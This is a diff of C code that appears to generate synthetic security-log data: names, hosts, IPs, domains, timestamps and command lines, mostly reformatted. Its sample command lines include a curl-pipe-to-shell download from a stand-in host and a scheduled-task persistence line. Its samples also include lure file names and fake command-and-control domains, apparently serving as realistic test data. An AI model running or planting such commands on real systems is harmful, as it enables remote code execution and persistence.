@@ -6,33 +6,37 @@
 static const char *const first_names[] = { "Ana", "Björn", "Chloé", "Dmitri", "Elif", "Fatima",
 	"Grzegorz", "Hiroshi", "Ingrid", "João", "Katarína", "Li", "Mónica", "Nguyễn", "Oğuz",
 	"Priya", "Quentin", "Ruth", "Søren", "Tariq", "Uma", "Věra", "Wanjiru", "Zoë" };
-static const char *const logins[] = { "ana", "bjorn", "chloe", "dmitri", "elif", "fatima", "grzegorz",
-	"hiroshi", "ingrid", "joao", "katarina", "li", "monica", "nguyen", "oguz", "priya", "quentin",
-	"ruth", "soren", "tariq", "uma", "vera", "wanjiru", "zoe" };
+static const char *const logins[] = { "ana", "bjorn", "chloe", "dmitri", "elif", "fatima",
+	"grzegorz", "hiroshi", "ingrid", "joao", "katarina", "li", "monica", "nguyen", "oguz",
+	"priya", "quentin", "ruth", "soren", "tariq", "uma", "vera", "wanjiru", "zoe" };
 static const char *const last_names[] = { "Abe", "Bauer", "Costa", "Dubois", "Evans", "Fischer",
 	"García", "Haddad", "Ivanova", "Jensen", "Kowalski", "Łukasik", "Müller", "Nakamura",
 	"O'Brien", "Petrov" };
 static const char *const host_kinds[] = { "pc", "lt", "srv-app", "srv-sql", "dc", "vdi", "web",
 	"build" };
-static const char *const files[] = { "powershell.exe", "cmd.exe", "rundll32.exe", "invoice_0421.docm",
-	"update.exe", "mimi.exe", "svchost.exe", "regsvr32.exe", "payload.dll", "Angebot (2).pdf.exe",
-	"wscript.exe", "setup-x64.msi", "run.sh", "libcurl.so.4", "отчёт.xlsx", "請求書.js" };
-static const char *const dirs[] = { "C:\\Windows\\System32", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
-	"C:\\Users\\Public\\Downloads", "C:\\Program Files (x86)\\Contoso\\Agent", "/usr/local/bin",
-	"/tmp/.x", "C:\\ProgramData\\Package Cache", "\\\\fs01\\share$\\transfer" };
+static const char *const files[] = { "powershell.exe", "cmd.exe", "rundll32.exe",
+	"invoice_0421.docm", "update.exe", "mimi.exe", "svchost.exe", "regsvr32.exe", "payload.dll",
+	"Angebot (2).pdf.exe", "wscript.exe", "setup-x64.msi", "run.sh", "libcurl.so.4",
+	"отчёт.xlsx", "請求書.js" };
+static const char *const dirs[] = { "C:\\Windows\\System32",
+	"C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "C:\\Users\\Public\\Downloads",
+	"C:\\Program Files (x86)\\Contoso\\Agent", "/usr/local/bin", "/tmp/.x",
+	"C:\\ProgramData\\Package Cache", "\\\\fs01\\share$\\transfer" };
 static const char *const publishers[] = { "Microsoft Corporation", "Contoso Ltd", "Fabrikam, Inc.",
 	"NAKANO K.K." };
 static const char *const foreign[] = { "login-portal.example", "cdn.files-transfer.example",
 	"mail.paypa1.example", "xn--bcher-kva.example", "update.software-center.test",
 	"c2.badactor.invalid" };
 static const char *const words[] = { "account", "activity", "anomalous", "attempt", "behaviour",
-	"command", "connection", "credential", "device", "discovered", "download", "encoded", "endpoint",
-	"evidence", "executed", "file", "from", "group", "known", "lateral", "malicious", "movement",
-	"network", "observed", "on", "policy", "process", "remote", "script", "service", "sign-in",
-	"suspicious", "the", "user", "was", "with" };
+	"command", "connection", "credential", "device", "discovered", "download", "encoded",
+	"endpoint", "evidence", "executed", "file", "from", "group", "known", "lateral",
+	"malicious", "movement", "network", "observed", "on", "policy", "process", "remote",
+	"script", "service", "sign-in", "suspicious", "the", "user", "was", "with" };
 static const char *const agents[] = {
-	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
-	"python-requests/2.31.0", "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Gecko/20100101 Firefox/128.0"
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+	"Chrome/126.0 Safari/537.36",
+	"python-requests/2.31.0",
+	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Gecko/20100101 Firefox/128.0"
 };
 
 #define PICK(m, list) ((list)[rng_below(&(m)->rng, ARRAY_LEN(list))])
@@ -126,7 +130,7 @@ digits_of(struct maker *m)
 {
 	uint64_t r = rng_next(&m->rng);
 
-	return (struct rng) { rng_mix(m->variety != 0 ? r % m->variety : r) };
+	return (struct rng){ rng_mix(m->variety != 0 ? r % m->variety : r) };
 }
 
 void
@@ -232,7 +236,8 @@ make_mac(struct maker *m, const void *arg)
 void
 make_base64(struct maker *m, const void *arg)
 {
-	static const char digit[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	static const char digit[] =
+	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
 
 	(void)arg;
 	buf_byte(m->b, '"');
@@ -257,8 +262,8 @@ void
 make_stamp(struct maker *m, const void *arg)
 {
 	static const int64_t grain[] = { 1, 10, TICKS_MS, 10 * TICKS_MS, TICKS_SEC };
-	int64_t t = m->when - (int64_t)rng_below(&m->rng, 3600) * TICKS_SEC
-	    - rng_below(&m->rng, (uint32_t)TICKS_SEC);
+	int64_t t = m->when - (int64_t)rng_below(&m->rng, 3600) * TICKS_SEC -
+	            rng_below(&m->rng, (uint32_t)TICKS_SEC);
 
 	(void)arg;
 	put_stamp(m->b, t - t % PICK(m, grain), !rng_percent(&m->rng, 5));
@@ -280,15 +285,16 @@ void
 make_ipv6(struct maker *m, const void *arg)
 {
 	(void)arg;
-	buf_printf(m->b, "\"2001:db8::%x:%x\"", rng_below(&m->rng, 65536), rng_below(&m->rng, 65536));
+	buf_printf(
+	    m->b, "\"2001:db8::%x:%x\"", rng_below(&m->rng, 65536), rng_below(&m->rng, 65536));
 }
 
 void
 make_private_ip(struct maker *m, const void *arg)
 {
 	(void)arg;
-	buf_printf(m->b, "\"10.%u.%u.%u\"", (unsigned)(m->cast & 63), (unsigned)(m->cast >> 8 & 255),
-	    rng_below(&m->rng, 256));
+	buf_printf(m->b, "\"10.%u.%u.%u\"", (unsigned)(m->cast & 63),
+	    (unsigned)(m->cast >> 8 & 255), rng_below(&m->rng, 256));
 }
 
 void
@@ -436,7 +442,8 @@ make_command_line(struct maker *m, const void *arg)
 		"/bin/sh -c 'curl -fsSL https://cdn.files-transfer.example/%s | sh'",
 		"schtasks /create /sc minute /mo 5 /tn \\\"%s\\\" /tr calc.exe",
 	};
-	static const char digit[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+	static const char digit[] =
+	    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
 	unsigned n = 8 + rng_below(&m->rng, rng_percent(&m->rng, 10) ? 400 : 24);
 	const char *line = PICK(m, lines), *hole = strstr(line, "%s");
 
@@ -494,9 +501,10 @@ make_resource_id(struct maker *m, const void *arg)
 {
 	(void)arg;
 	buf_puts(m->b, "\"/subscriptions/");
-	buf_printf(m->b, "%08x-0000-4000-8000-%012x/resourceGroups/rg-%s/providers/"
-	    "Microsoft.Compute/virtualMachines/%s%u\"", (unsigned)(m->cast >> 32),
-	    (unsigned)m->cast, PICK(m, words), CAST(m, host_kinds, 17),
+	buf_printf(m->b,
+	    "%08x-0000-4000-8000-%012x/resourceGroups/rg-%s/providers/"
+	    "Microsoft.Compute/virtualMachines/%s%u\"",
+	    (unsigned)(m->cast >> 32), (unsigned)m->cast, PICK(m, words), CAST(m, host_kinds, 17),
 	    (unsigned)(m->cast >> 24 & 255));
 }
 
@@ -504,7 +512,8 @@ void
 make_labels(struct maker *m, const void *arg)
 {
 	(void)arg;
-	buf_printf(m->b, "{\"app\":\"%s\",\"pod-template-hash\":\"%x\",\"app.kubernetes.io/name\":\"%s\"}",
+	buf_printf(m->b,
+	    "{\"app\":\"%s\",\"pod-template-hash\":\"%x\",\"app.kubernetes.io/name\":\"%s\"}",
 	    PICK(m, words), rng_below(&m->rng, 1u << 30), PICK(m, words));
 }
 
